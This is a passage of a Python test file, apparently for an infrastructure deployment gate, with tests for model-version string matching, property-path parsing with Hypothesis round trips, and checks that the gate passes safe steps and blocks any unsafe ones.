    assert not differs_only_by_model("model v10", "model v100", "v1", "v10")
    # The new version is inserted literally (no regex replacement escapes).
    assert differs_only_by_model("model v5", r"model v\g<0>", "v5", r"v\g<0>")
    assert not differs_only_by_model("model v5", "model vv5", "v5", r"v\g<0>")


def test_property_paths_parse_like_the_engine_writes_them():
    assert parse_path('metadata.labels["kiln.dev/model-version"]') == ("metadata", "labels", "kiln.dev/model-version")
    assert parse_path("tags[6].value") == ("tags", 6, "value")
    assert parse_path('["a\\"b"].c[*]') == ('a"b', "c", "*")
    for bad in ("", "a.", "a[x]", 'a["b', "a]b", "a..b"):
        with pytest.raises(PathError):
            parse_path(bad)


_segment = st.one_of(st.integers(0, 50), st.text(min_size=1, max_size=12).filter(lambda s: s != "*"))


@given(st.lists(_segment, min_size=1, max_size=6).filter(lambda p: isinstance(p[0], str)))
def test_paths_round_trip_through_the_engines_spelling(path):
    path = tuple(path)
    assert parse_path(path_string(path)) == path
    assert parse_path(format_path(path)) == path


SAFE = [lambda: _lt(imageId=NEW_AMI),
        lambda: _asg({"launchTemplate.version": DiffKind.UPDATE}),
        lambda: step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={}),
        lambda: _pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", name="pv-a")]
UNSAFE = sorted(BLOCKED_CASES)


@given(st.lists(st.sampled_from(range(len(SAFE))), max_size=6),
       st.lists(st.sampled_from(UNSAFE), max_size=2, unique=True))
def test_any_unsafe_step_blocks_and_only_safe_steps_pass(safe, unsafe):
    events = [SAFE[i]() for i in safe] + [e for name in unsafe for e in BLOCKED_CASES[name]]
    result = gate(events)
    assert result.allowed == (not unsafe)
